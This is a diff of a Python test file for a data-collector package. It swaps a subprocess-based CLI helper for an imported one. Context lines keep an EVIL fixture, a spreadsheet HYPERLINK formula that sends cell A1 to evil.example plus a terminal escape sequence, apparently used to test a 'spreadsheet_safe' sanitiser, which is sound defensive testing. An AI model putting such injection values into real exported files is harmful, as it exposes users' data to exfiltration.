@@ -4,24 +4,16 @@ from __future__ import annotations
 
 import csv
 import json
-import os
 import sqlite3
-import subprocess
-import sys
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
 from collector.dataset.tidy import spreadsheet_safe
+from processes import cli
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")\x1b]0;pwned\x07'
-
-
-def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
-    return subprocess.run([sys.executable, "-m", "collector", *args], cwd=cwd, env=env, capture_output=True,
-                          text=True, timeout=300)
 
 
 def _toml_string(s: str) -> str:
